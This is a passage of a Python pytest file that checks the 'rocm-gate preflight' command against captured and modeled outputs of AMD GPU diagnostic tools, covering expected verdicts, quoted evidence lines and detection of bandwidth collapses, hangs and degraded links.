"""`rocm-gate preflight` and `rocm-gate drain` on real captured tool outputs
(tests/data/samples/preflight)."""

import json
import re
import shutil
import sys
from pathlib import Path

import jsonschema
import pytest
from conftest import SAMPLES
from hypothesis import given, settings
from hypothesis import strategies as st

from pytest_rocm.schemas.artifacts import schema_document
from rocm_gate.cli import main as rocm_gate

PREFLIGHT = SAMPLES / "preflight"

# Every capture a preflight reader reads (tests/data/samples: preflight/TOOL/ and the amd-smi,
# rocm-smi and rocminfo captures detection reads too), so a new reader cannot silently break an old
# one (issue 61). capture -> (the SKU the runner class gives with --sku, or None; other arguments;
# the verdict of the layer the tool proves; where its first deciding finding quotes: a line number of
# a text output, a JSON pointer of a JSON one, None where the output is the tool's but not judged).
# The SKU comes from the file name where the capture names its GPUs; "mi300" captures from amd-smi's
# changelog do not say which MI300, so they run without one. MODELED captures are written to the
# tool's documented format (preflight/SOURCES.md says which and why).
CAPTURES = {
    "preflight/agfhc/mi350x_x8_agfhc1.23.2_all_lvl1_all_pass_rocm7.0_mhilgema-proj.txt": (
        "MI350X",
        (),
        "ok",
        16,
    ),
    "preflight/amd-smi/mi300_amd-smi_metric_--ecc-block_text_all_zero_amdsmi-changelog.txt": (
        None,
        (),
        "ok",
        5,
    ),
    "preflight/amd-smi/mi300_amd-smi_metric_--pcie_text_amdsmi-changelog_EXCERPT.txt": (
        None,
        (),
        "ok",
        3,
    ),
    "preflight/amd-smi/mi300_amd-smi_xgmi_--link-status_links_down_rocm6.4_amdsmi-changelog_EXCERPT.txt": (
        None,
        (),
        "failed",
        3,
    ),
    "preflight/amd-smi/mi300_x8_amd-smi_topology_all_xgmi_rocm6.1_amdsmi-changelog.txt": (
        None,
        (),
        "ok",
        3,
    ),
    "preflight/amd-smi/mi300_x8_amd-smi_xgmi_link_metric_table_rocm6.1_amdsmi-changelog.txt": (
        "MI300X",
        (),
        "skipped",
        None,
    ),
    "preflight/amd-smi/mi300a_x4_amd-smi_firmware_rocm6.3.3_rocm-issue-4477.txt": (
        None,
        (),
        "ok",
        5,
    ),
    "preflight/amd-smi/mi300x_amd-smi_bad-pages_none_rocm-blogs_EXCERPT.txt": (
        "MI300X",
        (),
        "ok",
        2,
    ),
    "preflight/amd-smi/mi300x_x8_amd-smi_default-view_gpu2_96pct_busy_process_amd-smi26.0.0_rocm7.0.0_MODELED-install-guide.txt": (
        "MI300X",
        (),
        "failed",
        37,
    ),
    "preflight/amd-smi/mi300x_x8_amd-smi_monitor_-q_gpu3_96pct_busy_process_amd-smi24.7.1_rocm6.3.1_MODELED-amdsmi-changelog.txt": (
        "MI300X",
        (),
        "failed",
        13,
    ),
    "preflight/amd-smi/mi300x_x8_amd-smi_static_--partition_gpu6_left_in_CPX_amd-smi24.7.1_rocm6.3.1_MODELED-amdsmi-cli.txt": (
        "MI300X",
        (),
        "failed",
        39,
    ),
    "preflight/amd-smi/mi300x_x8_amd-smi_topology_access_weight_rocm-blogs_EXCERPT.txt": (
        "MI300X",
        (),
        "ok",
        3,
    ),
    "preflight/amd-smi/mi300x_x8_amd-smi_xgmi_link_metric_with_traffic_rocm-blogs_EXCERPT.txt": (
        "MI300X",
        (),
        "skipped",
        None,
    ),
    "preflight/amd-smi/mi350x_x8_amd-smi_monitor_-putm_idle_rocm7.0_mhilgema-proj.txt": (
        "MI350X",
        (),
        "ok",
        3,
    ),
    "preflight/amd-smi/mi355x_x2_amd-smi_default-view_UEC_3_on_gpu1_amd-smi26.0.0_rocm7.0.0_MODELED-install-guide.txt": (
        "MI355X",
        (),
        "failed",
        12,
    ),
    "preflight/amd-smi/mi355x_x2_amd-smi_default-view_idle_healthy_amd-smi26.0.0_rocm7.0.0_MODELED-install-guide.txt": (
        "MI355X",
        (),
        "ok",
        9,
    ),
    "preflight/amd-smi/mi355x_x8_amd-smi_process_leftover_235.9GB_on_gpu4_amd-smi26.0.0_rocm7.0.0_MODELED-amdsmi-cli.txt": (
        "MI355X",
        (),
        "failed",
        16,
    ),
    "preflight/amd-smi/mi355x_x8_amd-smi_process_none_running_amd-smi26.0.0_rocm7.0.0_MODELED-amdsmi-cli.txt": (
        "MI355X",
        (),
        "ok",
        2,
    ),
    "preflight/amd-smi/mi355x_x8_amd-smi_static_--vram_gpu5_32GB_short_amd-smi26.0.0_rocm7.0.0_MODELED-amdsmi-cli.txt": (
        "MI355X",
        (),
        "failed",
        45,
    ),
    "preflight/amd-smi/mi3x_x8_amd-smi_xgmi_--link-status_mvf_not_supported_amdsmi-changelog_EXCERPT.txt": (
        None,
        (),
        "skipped",
        None,
    ),
    "preflight/babelstream/mi300x_x8_babelstream5_hip_mpi_system-acceptance-docs_EXCERPT.txt": (
        "MI300X",
        (),
        "ok",
        27,
    ),
    "preflight/dmesg/mi300x_dmesg_gfxhub_retry_page_fault_llama-bench_augmxnt_EXCERPT.txt": (
        "MI300X",
        (),
        "degraded",
        1,
    ),
    "preflight/dmesg/mi300x_journalctl_-k_ring_timeout_process_information_gpu_reset_amdgpu6.8_MODELED-amdgpu_job.c.txt": (
        "MI300X",
        (),
        "failed",
        2,
    ),
    "preflight/dmesg/mi300x_x8_app_stderr_hip_HW_Exception_GPU_Hang_NOT_dmesg_rocm-issue-4021.txt": (
        "MI300X",
        (),
        "failed",
        2,
    ),
    "preflight/dmesg/mi300x_x8_dmesg_-T_boot_healthy_grep_error_warn_fail_exception_augmxnt_MODELED-stamps.txt": (
        "MI300X",
        (),
        "ok",
        38,
    ),
    "preflight/dmesg/mi300x_x8_dmesg_boot_amdgpu_init_gpu0_ras_ok_xgmi_hive_rocm6.2.2_augmxnt_EXCERPT.txt": (
        "MI300X",
        (),
        "ok",
        27,
    ),
    "preflight/dmesg/mi300x_x8_dmesg_boot_fatal_error_during_gpu_init_all8_after_hang_rocm-issue-4021-c12.txt": (
        "MI300X",
        (),
        "failed",
        10,
    ),
    "preflight/dmesg/mi300x_x8_dmesg_boot_healthy_amd_grep_error_warn_fail_exception_augmxnt.txt": (
        "MI300X",
        (),
        "ok",
        38,
    ),
    "preflight/dmesg/mi300x_x8_dmesg_ras_athub_uncorrectable_aca_xgmi_wafl_mode1_reset_rocm6.2.3_rocm-issue-4021.txt": (
        "MI300X",
        (),
        "failed",
        1,
    ),
    "preflight/dmesg/mi300x_x8_dmesg_umc_hbm_5876ce_20ue_aca_hive_mode1_reset_rocm6.2.2_augmxnt_EXCERPT.txt": (
        "MI300X",
        (),
        "failed",
        1,
    ),
    "preflight/dmesg/mi300x_x8_journalctl_-k_-o_short-iso_umc_hbm_20ue_mode1_reset_augmxnt_EXCERPT_MODELED-stamps.txt": (
        "MI300X",
        (),
        "failed",
        1,
    ),
    "preflight/lspci/mi350x_x8_lspci_DevSta_LnkSta_32GTs_x16_ok_mhilgema-proj.txt": (
        "MI350X",
        (),
        "ok",
        2,
    ),
    "preflight/rccl-tests/mi210_x4_all_reduce_perf_FAIL_Test_NCCL_failure_internal_error_rccl-tests-issue-50.txt": (
        "MI210",
        (),
        "failed",
        8,
    ),
    "preflight/rccl-tests/mi210_x8_all_reduce_perf_BAD_node_stops_after_header_hang_rocm6.3.3_mhilgema-proj.txt": (
        "MI210",
        (),
        "failed",
        21,
    ),
    "preflight/rccl-tests/mi210_x8_all_reduce_perf_healthy_node_36.6GBps_rocm6.3.3_mhilgema-proj.txt": (
        "MI210",
        (),
        "ok",
        51,
    ),
    "preflight/rccl-tests/mi210_x8x2nodes_all_reduce_perf_15.2GBps_rocm6.3.3_mhilgema-proj.txt": (
        "MI210",
        (),
        "ok",
        59,
    ),
    "preflight/rccl-tests/mi300x_x8_all_reduce_perf_1node_k8s_hisohara.txt": (
        "MI300X",
        (),
        "ok",
        47,
    ),
    "preflight/rccl-tests/mi300x_x8_all_reduce_perf_2G_at_30pct_of_neighbours_system-acceptance-docs_wscollapsed_MODELED-row.txt": (
        "MI300X",
        (),
        "failed",
        44,
    ),
    "preflight/rccl-tests/mi300x_x8_all_reduce_perf_8G_system-acceptance-docs_wscollapsed.txt": (
        "MI300X",
        (),
        "ok",
        46,
    ),
    "preflight/rccl-tests/mi300x_x8x2nodes_all_reduce_perf_rocm6.4.2_hisohara.txt": (
        "MI300X",
        (),
        "ok",
        61,
    ),
    "preflight/rccl-tests/mi350x_x8_all_reduce_perf_-g8_dips_at_64M_2G_rocm7.0_mhilgema-proj.txt": (
        "MI350X",
        (),
        "degraded",
        40,
    ),
    "preflight/rccl-tests/mi355x_x8_all_reduce_perf_512k-16G_oci-quickstarts_EXCERPT.txt": (
        "MI355X",
        (),
        "ok",
        18,
    ),
    "preflight/rccl-tests/mi355x_x8x2nodes_all_reduce_perf_rocm7.0.1_pollara_hisohara_EXCERPT.txt": (
        "MI355X",
        (),
        "ok",
        59,
    ),
    "preflight/rccl-tests/mi355x_x8x4nodes_alltoall_perf_pollara_oci-quickstarts_EXCERPT.txt": (
        "MI355X",
        (),
        "ok",
        6,
    ),
    "preflight/rocm-smi/mi308x_x8_rocm-smi_concise_idle_ms-swift.txt": ("MI308X", (), "ok", 6),
    "preflight/rocm-smi/mi308x_x8_rocm-smi_showtopo_all_xgmi_ms-swift.txt": (
        "MI308X",
        (),
        "ok",
        28,
    ),
    "preflight/rocm-smi/mi350x_x8_rocm-smi_concise_idle_rocm7.0_mhilgema-proj.txt": (
        "MI350X",
        (),
        "ok",
        6,
    ),
    "preflight/rvs/mi300x_x8_rvs_-g_gpu_list_rvs0.0.60202_system-acceptance-docs.txt": (
        "MI300X",
        (),
        "ok",
        12,
    ),
    "preflight/rvs/mi300x_x8_rvs_gm_single_violations_system-acceptance-docs_EXCERPT.txt": (
        "MI300X",
        (),
        "ok",
        1,
    ),
    "preflight/rvs/mi300x_x8_rvs_gpup_single_system-acceptance-docs_EXCERPT.txt": (
        "MI300X",
        (),
        "ok",
        4,
    ),
    "preflight/rvs/mi300x_x8_rvs_gst_ext_fp8_met_true_system-acceptance-docs_EXCERPT.txt": (
        "MI300X",
        (),
        "ok",
        6,
    ),
    "preflight/rvs/mi300x_x8_rvs_gst_single_fp8_met_true_system-acceptance-docs_EXCERPT.txt": (
        "MI300X",
        (),
        "ok",
        8,
    ),
    "preflight/rvs/mi300x_x8_rvs_iet_single_pass_true_system-acceptance-docs_EXCERPT.txt": (
        "MI300X",
        (),
        "ok",
        6,
    ),
    "preflight/rvs/mi300x_x8_rvs_mem_test1_pass_test11_bandwidth_grep_system-acceptance-docs_EXCERPT.txt": (
        "MI300X",
        (),
        "ok",
        10,
    ),
    "preflight/rvs/mi300x_x8_rvs_pbqt_single_p2p_system-acceptance-docs_EXCERPT.txt": (
        "MI300X",
        (),
        "ok",
        1,
    ),
    "preflight/rvs/mi300x_x8_rvs_pebb_single_d2h_system-acceptance-docs_EXCERPT.txt": (
        "MI300X",
        (),
        "ok",
        18,
    ),
    "preflight/rvs/mi300x_x8_rvs_peqt_single_system-acceptance-docs_EXCERPT.txt": (
        "MI300X",
        (),
        "ok",
        3,
    ),
    "preflight/rvs/mi355x_x8_rvs1.6.75_babel_double_gpu1590_hbm_58pct_of_peers_rocm7.2.1_MODELED-rvs-ug1main.txt": (
        "MI355X",
        (),
        "failed",
        86,
    ),
    "preflight/rvs/mi355x_x8_rvs1.6.75_babel_double_with_summary_rocm7.2.1_rvs-ug1main_EXCERPT.txt": (
        "MI355X",
        (),
        "ok",
        46,
    ),
    "preflight/rvs/mi355x_x8_rvs1.6.75_gpup_gpu17010_240_of_256_CUs_rocm7.2.1_MODELED-rvs-ug1main.txt": (
        "MI355X",
        (),
        "failed",
        49,
    ),
    "preflight/rvs/mi355x_x8_rvs1.6.75_gst_fp4_met_true_with_summary_rocm7.2.1_rvs-ug1main_EXCERPT.txt": (
        "MI355X",
        (),
        "ok",
        10,
    ),
    "preflight/rvs/mi355x_x8_rvs1.6.75_mem_test1-11_pass_6.4TBps_with_summary_rocm7.2.1_rvs-ug1main_EXCERPT.txt": (
        "MI355X",
        (),
        "ok",
        17,
    ),
    "preflight/rvs/mi355x_x8_rvs1.6.75_pbqt_xgmi_d2d_unidir_61GBps_with_summary_rocm7.2.1_rvs-ug1main_EXCERPT.txt": (
        "MI355X",
        (),
        "ok",
        3,
    ),
    "preflight/transferbench/mi300x_x8_transferbench_a2a_system-acceptance-docs_wscollapsed.txt": (
        "MI300X",
        (),
        "ok",
        13,
    ),
    "preflight/transferbench/mi300x_x8_transferbench_example-cfg_tests1-6_system-acceptance-docs_wscollapsed.txt": (
        "MI300X",
        (),
        "ok",
        32,
    ),
    "preflight/transferbench/mi300x_x8_transferbench_p2p_system-acceptance-docs_wscollapsed.txt": (
        "MI300X",
        (),
        "ok",
        6,
    ),
    "preflight/transferbench/mi350x_transferbench_example-cfg_AMD_LOG_LEVEL7_no_code_object_gfx950_mhilgema-proj_EXCERPT.txt": (
        "MI350X",
        (),
        "failed",
        6,
    ),
    "preflight/transferbench/mi350x_transferbench_example-cfg_tests1-6_HSA_OVERRIDE_9.4.2_mhilgema-proj_EXCERPT.txt": (
        "MI350X",
        (),
        "ok",
        34,
    ),
    "preflight/transferbench/mi350x_x8_transferbench_a2a_51.4GBps_rocm7.0_mhilgema-proj_EXCERPT.txt": (
        "MI350X",
        (),
        "ok",
        16,
    ),
    "amd-smi/mi300x-o_amd-smi_static_text_rocm-blogs.txt": ("MI300X", (), "skipped", None),
    "amd-smi/mi300x_amd-smi_version_json_rocm7.2.1_dell-ai.json": ("MI300X", (), "skipped", None),
    "amd-smi/mi300x_x8_amd-smi_static_json_nonroot_permission_banner_rocm7.2.1_dell-ai.txt": (
        "MI300X",
        (),
        "skipped",
        None,
    ),
    "amd-smi/mi300x_x8_amd-smi_static_json_rocm7.2.1_dell-ai.json": (
        "MI300X",
        (),
        "ok",
        "/gpu_data/0/vram/size",
    ),
    "amd-smi/mi325x_vf_amd-smi_list_text_device-metrics-exporter.txt": (
        "MI325X",
        (),
        "skipped",
        None,
    ),
    "amd-smi/mi350x_amd-smi_static_text_gfx950_rocm-systems-pr-2987_EXCERPT.txt": (
        "MI350X",
        (),
        "ok",
        12,
    ),
    "rocm-smi/mi250x_rocm-smi_showproductname_json_gfx9010_rocm_smi_lib-issue-159.json": (
        "MI250X",
        (),
        "skipped",
        None,
    ),
    "rocm-smi/mi300x_oam_rocm-smi_showproductname_rocm-blogs-notebook.txt": (
        "MI300X",
        (),
        "skipped",
        None,
    ),
    "rocm-smi/mi300x_x4_rocm-smi_concise_thamada.txt": ("MI300X", (), "ok", 6),
    "rocminfo/mi300x_x4_rocminfo_thamada.txt": ("MI300X", ("--expect-gpus", "4"), "ok", 148),
    "rocminfo/mi355x_rocminfo_gfx950_agent_rocm-libraries-issue-9055_EXCERPT.txt": (
        "MI355X",
        ("--expect-gpus", "1"),
        "ok",
        24,
    ),
}
# the captures of each tool that the readers read, outside preflight/: the tool is the folder's name
READ_ELSEWHERE = ("amd-smi", "rocm-smi", "rocminfo")


def preflight(capsys, *args) -> tuple[int, dict]:
    code = rocm_gate(["preflight", "--json", "--require", "none", *args])
    return code, json.loads(capsys.readouterr().out)


def layer(evidence: dict, name: str) -> dict:
    return next(item for item in evidence["layers"] if item["name"] == name)


def test_every_preflight_sample_has_an_expectation():
    on_disk = {
        str(p.relative_to(SAMPLES))
        for p in [*PREFLIGHT.glob("*/*"), *(SAMPLES / t for t in READ_ELSEWHERE)]
        for p in ([p] if p.is_file() else p.glob("*"))
        if p.is_file()
    }
    assert on_disk - set(CAPTURES) == set(), (
        "a new capture needs its expected verdict and quoted line in CAPTURES"
    )
    assert set(CAPTURES) - on_disk == set()


def _quoted(path: Path, where):
    """The text a finding quotes at `where`: the line (a number), or the value at a JSON pointer
    as `key: value`."""
    text = path.read_text(encoding="utf-8-sig")
    if isinstance(where, int):
        return text.splitlines()[where - 1].strip()[:200]
    from pytest_rocm.hw.parsers.amd_smi import json_document

    node = json_document(text)[1]
    keys = [k.replace("~1", "/").replace("~0", "~") for k in where.split("/")[1:]]
    for key in keys:
        node = node[int(key)] if isinstance(node, list) else node[key]
    if isinstance(node, dict):
        node = f"{node['value']} {node['unit']}"
    return f"{keys[-1]}: {node}"


@pytest.mark.parametrize(
    "name", sorted(CAPTURES), ids=[n.split("/")[-1][:60] for n in sorted(CAPTURES)]
)
def test_sample_verdict_and_evidence(capsys, name):
    """Each capture through preflight: its layer's verdict, the exit, where the first deciding
    finding quotes and that the quote is the capture's own text there; every finding that fails or
    degrades quotes its place; every finding of a JSON output quotes a JSON pointer."""
    sku, args, verdict, where = CAPTURES[name]
    tool = name.split("/")[-2]
    path = SAMPLES / name
    code, evidence = preflight(
        capsys, "--source", f"{tool}={path}", *(["--sku", sku] if sku else []), *args
    )
    proved = layer(evidence, "communication" if tool == "rccl-tests" else "hardware")
    assert proved["verdict"] == verdict, proved["reason"]
    assert code == (3 if verdict == "failed" else 0)
    jsonschema.Draft202012Validator(schema_document("preflight")).validate(
        {**evidence, "exit_code": code}
    )
    if verdict == "skipped":  # an output the reader cannot judge: not proven, saying why
        assert "not proven" in proved["reason"] and "not judged" in proved["reason"]
        assert where is None
        return
    deciding = [f for f in proved["findings"] if f["status"] == verdict]
    assert deciding, "the verdict must come from findings"
    assert deciding[0].get("line", deciding[0].get("pointer")) == where, deciding[0]
    for item in proved["findings"]:
        place = item.get("line", item.get("pointer"))
        if item.get("pointer"):
            assert "line" not in item
        if place is not None:
            assert item["text"] == _quoted(path, place), item
        else:  # only a finding that nothing was found (no table, no line) quotes no place
            assert item["status"] == "ok" or item["check"].endswith(
                ("no_table", "no_results", "nothing", "no_links", "exit")
            ), item
    assert all(source["unread"] <= 2 for source in proved["sources"]), proved["sources"]


def test_a_thresholds_value_decides_the_verdict(capsys, tmp_path):
    sample = f"rccl-tests={PREFLIGHT / 'rccl-tests/mi300x_x8_all_reduce_perf_8G_system-acceptance-docs_wscollapsed.txt'}"
    strict = tmp_path / "thresholds.toml"
    strict.write_text(
        "[sku.MI300X]\nrccl_all_reduce_busbw_gbps = 320\n"
        'rccl_all_reduce_busbw_gbps_source = "a site that wants more"\n'
    )
    code, evidence = preflight(
        capsys, "--source", sample, "--sku", "MI300X", "--thresholds", str(strict)
    )
    found = layer(evidence, "communication")
    assert code == 3 and found["verdict"] == "failed"
    assert "315.84 GB/s at 8 GiB is below 320" in found["reason"]


def test_the_pipeline_stops_at_the_first_failed_layer(capsys):
    code, evidence = preflight(
        capsys,
        "--sku",
        "MI300X",
        "--source",
        f"dmesg={PREFLIGHT / 'dmesg/mi300x_x8_dmesg_umc_hbm_5876ce_20ue_aca_hive_mode1_reset_rocm6.2.2_augmxnt_EXCERPT.txt'}",
        "--source",
        f"rccl-tests={PREFLIGHT / 'rccl-tests/mi300x_x8_all_reduce_perf_1node_k8s_hisohara.txt'}",
        "--source",
        f"amd-smi={PREFLIGHT / 'amd-smi/mi300x_amd-smi_bad-pages_none_rocm-blogs_EXCERPT.txt'}",
    )
    assert code == 3
    assert [layer["verdict"] for layer in evidence["layers"]] == [
        "failed",
        "skipped",
        "skipped",
        "skipped",
        "skipped",
    ]
    assert layer(evidence, "communication")["reason"] == "not run: the hardware layer failed"
    messages = {f["message"] for f in layer(evidence, "hardware")["findings"]}
    assert "20 uncorrectable errors in the umc block on 0000:9d:00.0" in messages
    assert evidence["summary"].startswith("refused: the hardware layer failed")


def test_the_artifact_follows_its_schema(capsys, tmp_path):
    out = tmp_path / "preflight.json"
    rocm_gate(
        [
            "preflight",
            "--require",
            "none",
            "--out",
            str(out),
            "--sku",
            "MI350X",
            "--source",
            f"rccl-tests={PREFLIGHT / 'rccl-tests/mi350x_x8_all_reduce_perf_-g8_dips_at_64M_2G_rocm7.0_mhilgema-proj.txt'}",
            "--source",
            f"lspci={PREFLIGHT / 'lspci/mi350x_x8_lspci_DevSta_LnkSta_32GTs_x16_ok_mhilgema-proj.txt'}",
        ]
    )
    summary = capsys.readouterr().out
    assert (
        "communication  DEGRADED" in summary
        and "accepted (degraded: communication) (exit 0)" in summary
    )
    document = schema_document("preflight")
    jsonschema.Draft202012Validator.check_schema(document)
    jsonschema.Draft202012Validator(document).validate(json.loads(out.read_text()))


def test_a_degraded_link_and_a_missing_gpu_fail_the_hardware_layer(capsys, tmp_path):
    """The captures have no degraded link (SOURCES.md: none found), so the healthy lspci capture is
    changed the way lspci prints a link that trained at x8, and the rvs -g list loses a GPU."""
    lspci = (
        PREFLIGHT / "lspci/mi350x_x8_lspci_DevSta_LnkSta_32GTs_x16_ok_mhilgema-proj.txt"
    ).read_text()
    degraded = tmp_path / "lspci.txt"
    degraded.write_text(lspci.replace("Width x16 (ok)", "Width x8 (downgraded)", 1))
    rvs = (
        (PREFLIGHT / "rvs/mi300x_x8_rvs_-g_gpu_list_rvs0.0.60202_system-acceptance-docs.txt")
        .read_text()
        .splitlines()
    )
    seven = tmp_path / "rvs.txt"
    seven.write_text("\n".join(rvs[:-1]) + "\n")
    code, evidence = preflight(
        capsys, "--sku", "MI300X", "--source", f"lspci={degraded}", "--source", f"rvs={seven}"
    )
    hardware = layer(evidence, "hardware")
    assert code == 3 and hardware["verdict"] == "failed"
    failed = {f["check"]: f for f in hardware["findings"] if f["status"] == "failed"}
    assert failed["pcie.link"]["line"] == 2 and "downgraded" in failed["pcie.link"]["message"]
    assert failed["rvs.gpus_visible"]["message"] == "RVS sees 7 GPU(s); this SKU's node has 8"


def _sample(name: str) -> str:
    return (PREFLIGHT / name).read_text(encoding="utf-8")


def _findings(evidence: dict, name: str, check: str) -> list[dict]:
    return [f for f in layer(evidence, name)["findings"] if f["check"] == check]


MI210_HEALTHY = (
    "rccl-tests/mi210_x8_all_reduce_perf_healthy_node_36.6GBps_rocm6.3.3_mhilgema-proj.txt"
)


def test_a_bandwidth_collapse_fails_a_sku_without_a_floor(capsys, tmp_path):
    """The healthy 8x MI210 sweep (thresholds.toml has no MI210 floor) edited the way a failing link
    prints: from 16 MiB up every bus bandwidth is a tenth of what the capture shows."""
    code, evidence = preflight(
        capsys, "--sku", "MI210", "--source", f"rccl-tests={PREFLIGHT / MI210_HEALTHY}"
    )
    assert code == 0 and layer(evidence, "communication")["verdict"] == "ok"
    assert (
        "no floor for MI210: relative checks only"
        in _findings(evidence, "communication", "rccl.bus_bandwidth")[0]["message"]
    )
    # its 55.6 % fall recovers
    assert _findings(evidence, "communication", "rccl.size_sweep")[0]["status"] == "ok"
    lines = _sample(MI210_HEALTHY).splitlines()
    for index, line in enumerate(lines):
        cells = line.split()
        if len(cells) == 13 and cells[0].isdigit() and int(cells[0]) > 8 * 2**20:
            for column in (7, 11):
                line = line.replace(f" {cells[column]} ", f" {float(cells[column]) / 10:.2f} ", 1)
            lines[index] = line
    collapsed = tmp_path / "all_reduce.txt"
    collapsed.write_text("\n".join(lines) + "\n")
    code, evidence = preflight(capsys, "--sku", "MI210", "--source", f"rccl-tests={collapsed}")
    communication = layer(evidence, "communication")
    assert code == 3 and communication["verdict"] == "failed"
    out_of_place, in_place = _findings(evidence, "communication", "rccl.collapse")
    assert (
        out_of_place["line"] == in_place["line"] == 43
        and out_of_place["status"] == in_place["status"] == "failed"
    )
    assert out_of_place["message"].startswith(
        "bus bandwidth collapses: 2.65 GB/s at 16 MiB, 96 % below 59.64 GB/s at "
        "8 MiB (out-of-place)"
    )
    assert f"{collapsed}:43" in communication["reason"]


def test_a_sweep_cut_short_proves_nothing_on_any_sku(capsys, tmp_path):
    """The healthy MI210 sweep (no floor) cut after 512 MiB, as a run that hung there prints it."""
    lines = _sample(MI210_HEALTHY).splitlines()
    cut = tmp_path / "all_reduce.txt"
    cut.write_text("\n".join(lines[:48]) + "\n")
    code, evidence = preflight(capsys, "--sku", "MI210", "--source", f"rccl-tests={cut}")
    assert code == 3 and layer(evidence, "communication")["reason"].startswith(
        "the run stopped at 512 MiB of the 4 GiB asked for (maxBytes): a hang or a crash"
    )
    # the same cut with the header line gone: no summary after the table, below the plateau
    cut.write_text("\n".join(lines[1:48]) + "\n")
    code, evidence = preflight(capsys, "--sku", "MI210", "--source", f"rccl-tests={cut}")
    assert (
        code == 3
        and "the run stopped at 512 MiB, with no summary after it"
        in layer(evidence, "communication")["reason"]
    )
    # a complete short sweep (the rccl-tests README's -e 128M, with its summary) is judged, not
    # called a hang
    short = [
        line
        for line in lines
        if not (line.split() and line.split()[0].isdigit() and int(line.split()[0]) > 2**27)
    ]
    cut.write_text("\n".join(short).replace("maxBytes 4294967296", "maxBytes 134217728") + "\n")
    code, evidence = preflight(capsys, "--sku", "MI210", "--source", f"rccl-tests={cut}")
    assert code == 0 and not _findings(evidence, "communication", "rccl.stopped")
    # -e 5G with -f 2 ends at 4 GiB: the next size (8 GiB) is past maxBytes, so the sweep is complete
    cut.write_text(_sample(MI210_HEALTHY).replace("maxBytes 4294967296", "maxBytes 5368709120"))
    code, evidence = preflight(capsys, "--sku", "MI210", "--source", f"rccl-tests={cut}")
    assert code == 0 and not _findings(evidence, "communication", "rccl.stopped")


@pytest.mark.parametrize(
    "values,expected",
    [
        ([1.0, 2.0, 59.64, 26.5, 30.9, 36.7], None),  # the MI210 algorithm switch: 56 %, recovers
        # an early dip does not hide the collapse
        ([1.33, 0.25, 100.0, 303.0, 300.0, 20.0, 20.1], (5, 3, True)),
        ([100.0, 300.0, 10.0, 300.0], (2, 1, False)),  # a dip that recovers
        ([5.0], None),
    ],
)
def test_falls_finds_the_collapse_first(values, expected):
    from rocm_gate.preflight.relative import falls

    fall = falls(values, 75)
    assert (fall.at, fall.peak, fall.sustained) == expected if expected else fall is None


P2P = "transferbench/mi300x_x8_transferbench_p2p_system-acceptance-docs_wscollapsed.txt"


@pytest.mark.parametrize("factor,status", [(0.8, "degraded"), (0.6, "failed")])
def test_one_link_below_its_peers_is_found(capsys, tmp_path, factor, status):
    """The real 8x MI300X p2p matrix with the GPU 3 -> GPU 5 link (48.66 GB/s, line 9) set 20 % / 40
    % lower."""
    code, evidence = preflight(
        capsys, "--sku", "MI300X", "--source", f"transferbench={PREFLIGHT / P2P}"
    )
    assert code == 0 and layer(evidence, "hardware")["verdict"] == "ok"
    assert {f["status"] for f in _findings(evidence, "hardware", "transferbench.peer_link")} == {
        "ok"
    }
    lines = _sample(P2P).splitlines()
    assert lines[8].startswith("GPU 03 ->") and " 48.66 " in lines[8]
    lines[8] = lines[8].replace(" 48.66 ", f" {48.66 * factor:.2f} ")
    slow = tmp_path / "p2p.txt"
    slow.write_text("\n".join(lines) + "\n")
    code, evidence = preflight(capsys, "--sku", "MI300X", "--source", f"transferbench={slow}")
    hardware = layer(evidence, "hardware")
    assert hardware["verdict"] == status and code == (3 if status == "failed" else 0)
    [link] = [
        f for f in _findings(evidence, "hardware", "transferbench.peer_link") if f["status"] != "ok"
    ]
    assert link["line"] == 9 and link["message"].startswith(
        "GPU 3 to GPU 5 (unidirectional GFX ->): "
    )


def test_a_p2p_matrix_with_a_missing_link_or_rows_fails(capsys, tmp_path):
    """The real p2p matrix with the GPU 3 -> GPU 0 cell as N/A (no peer access), then cut after
    three GPU rows."""
    lines = _sample(P2P).splitlines()
    lines[8] = lines[8].replace(" 48.81 ", " N/A ", 1)
    no_peer = tmp_path / "p2p.txt"
    no_peer.write_text("\n".join(lines) + "\n")
    code, evidence = preflight(capsys, "--sku", "MI300X", "--source", f"transferbench={no_peer}")
    assert code == 3 and any(
        f["message"].startswith("GPU 3 to GPU 0 (unidirectional GFX ->): N/A")
        for f in _findings(evidence, "hardware", "transferbench.peer_link")
    )
    cut = tmp_path / "p2p-cut.txt"
    cut.write_text("\n".join(_sample(P2P).splitlines()[:8]) + "\n")
    code, evidence = preflight(capsys, "--sku", "MI300X", "--source", f"transferbench={cut}")
    assert code == 3 and _findings(evidence, "hardware", "transferbench.matrix")[0]["message"] == (
        "the unidirectional GFX -> matrix has 3 of 8 GPU rows: the run stopped (a crash or a hang)"
    )


def test_transferbench_that_measured_nothing_fails(capsys, tmp_path):
    banner = tmp_path / "tb.txt"
    banner.write_text(
        _sample(
            "transferbench/mi350x_transferbench_example-cfg_tests1-6_HSA_OVERRIDE_9.4.2_mhilgema-proj_EXCERPT.txt"
        ).splitlines()[0]
        + "\n"
    )
    code, evidence = preflight(
        capsys, "--require", "hardware", "--source", f"transferbench={banner}"
    )
    assert (
        code == 3
        and "TransferBench started and measured nothing" in layer(evidence, "hardware")["reason"]
    )


BABELSTREAM = "babelstream/mi300x_x8_babelstream5_hip_mpi_system-acceptance-docs_EXCERPT.txt"


@pytest.mark.parametrize("triad,status", [("3355130.713", "degraded"), ("2763048.822", "failed")])
def test_a_gpu_whose_hbm_is_slower_than_its_peers_is_found(capsys, tmp_path, triad, status):
    """The real two-GPU MPI run with the second GPU's Triad (line 36, 3947212.603 MB/s) 15 % / 30 %
    lower."""
    code, evidence = preflight(
        capsys, "--sku", "MI300X", "--source", f"babelstream={PREFLIGHT / BABELSTREAM}"
    )
    assert {f["status"] for f in _findings(evidence, "hardware", "babelstream.triad_peers")} == {
        "ok"
    }
    slow = tmp_path / "stream.txt"
    slow.write_text(_sample(BABELSTREAM).replace("Triad 3947212.603", f"Triad {triad}"))
    code, evidence = preflight(capsys, "--sku", "MI300X", "--source", f"babelstream={slow}")
    [peer] = [
        f for f in _findings(evidence, "hardware", "babelstream.triad_peers") if f["status"] != "ok"
    ]
    assert (
        peer["status"] == status
        and peer["line"] == 36
        and peer["message"].startswith("Triad of table 2 of 2: ")
    )


def test_bandwidth_that_falls_with_a_larger_array_fails(capsys, tmp_path):
    """The capture's header and first table as a run at 2147.5 MB, then again at 4295 MB with a
    tenth of the bandwidth."""
    lines = _sample(BABELSTREAM).splitlines()
    first = lines[:7] + lines[25:31]
    larger = [line.replace("2147.5 MB", "4295.0 MB") for line in first]
    for index, line in enumerate(larger):
        if line.startswith(("Copy ", "Triad ")):
